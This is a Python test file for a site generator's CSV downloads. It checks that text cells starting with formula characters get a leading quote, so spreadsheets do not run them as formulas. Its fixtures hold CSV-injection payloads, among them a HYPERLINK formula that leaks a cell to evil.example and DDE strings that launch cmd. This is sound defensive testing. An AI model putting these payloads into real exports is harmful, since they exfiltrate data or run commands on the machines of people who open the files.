"""The cost tables' CSV downloads against formula injection (OWASP's "CSV Injection"): a text cell
that a spreadsheet would run as a formula is written with a leading `'`; numbers stay numbers, and
the JSON downloads keep every text exactly as the editor wrote it.

One test builds a small site through the CLI, with an entry whose every text that reaches the CSV
begins with a character a spreadsheet reads as the start of a formula; the other writes the
downloads of model claims directly (public API), for what the front matter loader never lets
through: leading tabs and line breaks (it strips them) and negative figures (it refuses them).
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal
from pathlib import Path

from site_gen.model import Claim, Claimant, Comparison, CostRow, Source
from site_gen.present.downloads import COMBINED_DOWNLOADS, claim_table_files, combined_files

# Kept here, not imported: the test says what the rule must cover, independently of the code.
# OWASP: = + - @ tab CR LF; ASVS 1.2.10 adds NUL; the full-width = + - @ are this project's choice.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"

# Every text of this entry that reaches the CSV starts with a character from DANGEROUS (the loader
# strips leading tabs and line breaks, so those are tested on model claims below).
ENTRY = """\
---
claim: The model cost nothing.
claimant: Someone
verdict: misleading
summary: It did not.
published: 2025-02-03
title: '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
sources:
  - id: dde
    title: "-2+3+cmd|' /C calc'!A0"
    url: https://example.com/a
  - id: at
    title: "@SUM(1+1)*cmd|' /C calc'!A0"
    url: https://example.com/b
  - id: wide
    title: ＝１＋１
    url: https://example.com/c
comparisons:
  - title: +1+1 what it cost
    unit: USD
    rows:
      - id: run
        label: '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
        value: 5576000
        basis: '@SUM(A1:A9)'
        kind: disclosed
        source: dde
      - label: -5 GPUs
        value: 1600000000
        basis: ＋1 more
        kind: estimate
        source: at
      - label: '@home'
        min: 500000000
        basis: '-all hardware'
        kind: estimate
        source: wide
  - title: '@Count'
    unit: GPUs
    rows:
      - label: ＝1+1
        value: 2048
        basis: ＠x
        kind: reported
        source: wide
      - label: －1
        value: 10000
        basis: "=1+1"
        kind: estimate
        source: at
---
Body.
"""

TEXT_COLUMNS = ("entry_title", "table_title", "label", "basis", "source_title")


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def as_spreadsheet_text(text: str) -> str:
    return "'" + text if text.startswith(DANGEROUS) else text


def expected_cells(tables: list[dict]) -> list[dict[str, str]]:
    """The CSV rows the JSON's tables must give: every text as it is, or with a `'` when it begins
    with a dangerous character; numbers as the JSON's numbers."""
    def number(value) -> str:
        return "" if value is None else str(value)

    rows = []
    for table in tables:
        for row in table["rows"]:
            source = row["source"] or {}
            rows.append({
                "entry_slug": table["entry"]["slug"],
                "entry_title": as_spreadsheet_text(table["entry"]["title"]),
                "entry_url": table["entry"]["url"],
                "table": str(table["table"]),
                "table_title": as_spreadsheet_text(table["title"]),
                "unit": table["unit"],
                "unit_type": table["unit_type"],
                "baseline": table["baseline"] or "",
                "row_id": row["id"] or "",
                "label": as_spreadsheet_text(row["label"]),
                "value": number(row["value"]),
                "min": number(row["min"]),
                "max": number(row["max"]),
                "approx": "true" if row["approx"] else "false",
                "kind": row["kind"],
                "basis": as_spreadsheet_text(row["basis"] or ""),
                "source_id": source.get("id") or "",
                "source_title": as_spreadsheet_text(source.get("title") or ""),
                "source_url": source.get("url") or "",
            })
    return rows


def test_a_built_sites_csv_cells_that_would_run_as_formulas_start_with_a_quote(fixture_site: Path, run_cli):
    (fixture_site / "content/claims/formulas.md").write_text(ENTRY, encoding="utf-8")
    result = run_cli(fixture_site, "build", "--no-search")
    assert result.code == 0, result.err
    site = fixture_site / "_site"
    own_csv = read_csv((site / "claims/formulas/figures.csv").read_bytes())
    own_json = json.loads((site / "claims/formulas/figures.json").read_bytes(), parse_float=Decimal)
    all_csv = read_csv((site / COMBINED_DOWNLOADS.csv_path).read_bytes())
    all_json = json.loads((site / COMBINED_DOWNLOADS.json_path).read_bytes(), parse_float=Decimal)

    # The entry's own files: every text cell the editor wrote is quoted, the JSON is exact.
    assert len(own_csv) == 5
    for row in own_csv:
        for column in TEXT_COLUMNS:
            assert row[column][:1] == "'" and row[column][1:2] in DANGEROUS, (column, row[column])
    assert own_csv[0]["entry_title"] == "'" + HYPERLINK
    assert [r["label"] for r in own_csv] == ["'" + HYPERLINK, "'-5 GPUs", "'@home", "'＝1+1", "'－1"]
    assert [r["table_title"] for r in own_csv] == ["'+1+1 what it cost"] * 3 + ["'@Count"] * 2
    assert [r["basis"] for r in own_csv] == ["'@SUM(A1:A9)", "'＋1 more", "'-all hardware", "'＠x", "'=1+1"]
    assert [r["source_title"] for r in own_csv] == [
        "'" + DDE, "'@SUM(1+1)*cmd|' /C calc'!A0", "'＝１＋１", "'＝１＋１", "'@SUM(1+1)*cmd|' /C calc'!A0"]
    tables = own_json["tables"]
    assert [t["entry"]["title"] for t in tables] == [HYPERLINK, HYPERLINK]
    assert [t["title"] for t in tables] == ["+1+1 what it cost", "@Count"]
    assert [r["label"] for t in tables for r in t["rows"]] == [HYPERLINK, "-5 GPUs", "@home", "＝1+1", "－1"]
    assert [r["basis"] for t in tables for r in t["rows"]] == ["@SUM(A1:A9)", "＋1 more", "-all hardware", "＠x", "=1+1"]
    assert tables[0]["rows"][0]["source"]["title"] == DDE
    # Figures, ids, units, kinds and URLs are as they were.
    assert [(r["value"], r["min"]) for r in own_csv] == [
        ("5576000", ""), ("1600000000", ""), ("", "500000000"), ("2048", ""), ("10000", "")]
    assert [(r["row_id"], r["unit"], r["kind"], r["source_url"]) for r in own_csv[:2]] == [
        ("run", "USD", "disclosed", "https://example.com/a"), ("", "USD", "estimate", "https://example.com/b")]

    # The whole of each CSV is its JSON's rows, each text cell under the rule and nothing else
    # changed: the fixture site's ordinary entries are as they were.
    assert own_csv == expected_cells(own_json["tables"])
    assert all_csv == expected_cells(all_json["tables"])
    assert {r["entry_slug"] for r in all_csv} >= {"formulas", "six-million"}
    ordinary = [r for r in all_csv if r["entry_slug"] != "formulas"]
    assert ordinary and not any(cell.startswith("'") for r in ordinary for cell in r.values())
    assert [r for r in all_csv if r["entry_slug"] == "formulas"] == own_csv
    assert ("Final training run", "5576000", "2.788M GPU-hours at an assumed $2/GPU-hour") in {
        (r["label"], r["value"], r["basis"]) for r in ordinary}


SITE = "https://example.org/"


def url_for(path: str) -> str:
    return SITE + path.lstrip("/")


def claim(title: str, *comparisons: Comparison) -> Claim:
    return Claim(
        path="content/claims/c.md", slug="c", title=title, claim="…", claimant=Claimant("X"),
        verdict="misleading", summary="…", published=dt.date(2025, 2, 3), author="Editors",
        sources=(Source("\tTabbed source", id="s", url="https://example.com/s"),),
        comparisons=comparisons,
    )


def test_every_dangerous_start_is_quoted_and_numbers_stay_numbers() -> None:
    """Model claims, through the downloads' public API: each character of the rule at the start of
    a text (those the loader would strip too), negative figures, and ordinary texts."""
    texts = [f"{start}1+1 " + repr(start) for start in DANGEROUS]
    ordinary = ["Final run", "a=b", "x-y @ z", " =1+1 after a space", "'already quoted", "", "1e9", "–5 en dash"]
    rows = tuple(CostRow(text, "estimate", value=Decimal("-12"), min=Decimal("-1.5"), max=Decimal("-0.25"),
                         basis=text, source="s") for text in texts)
    rows += tuple(CostRow(text, "estimate", value=Decimal("7"), basis=text) for text in ordinary)
    tables = [Comparison(text, "USD", rows) for text in ("\r=table", "Ordinary table")]
    files = {**claim_table_files(claim("\n@title", *tables), url_for),
             **combined_files([claim("\n@title", *tables)], url_for)}
    for csv_path, json_path in (("claims/c/figures.csv", "claims/c/figures.json"),
                                (COMBINED_DOWNLOADS.csv_path, COMBINED_DOWNLOADS.json_path)):
        written = read_csv(files[csv_path])
        data = json.loads(files[json_path], parse_float=Decimal)
        assert written == expected_cells(data["tables"]), csv_path
        first = written[: len(rows)]
        assert [r["label"] for r in first] == ["'" + t for t in texts] + ordinary
        assert [r["basis"] for r in first] == ["'" + t for t in texts] + ordinary
        assert {r["table_title"] for r in first} == {"'\r=table"}
        assert {r["entry_title"] for r in written} == {"'\n@title"}
        assert {r["source_title"] for r in first[: len(texts)]} == {"'\tTabbed source"}
        # Figures we write ourselves are numbers, negative ones too: never quoted.
        assert {(r["value"], r["min"], r["max"]) for r in first[: len(texts)]} == {("-12", "-1.5", "-0.25")}
        # The JSON keeps the exact texts.
        assert [r["label"] for r in data["tables"][0]["rows"]] == texts + ordinary
        assert [t["title"] for t in data["tables"]] == ["\r=table", "Ordinary table"]
        assert data["tables"][0]["entry"]["title"] == "\n@title"
        assert data["tables"][0]["rows"][0]["source"]["title"] == "\tTabbed source"
        assert data["tables"][0]["rows"][0]["value"] == Decimal("-12")
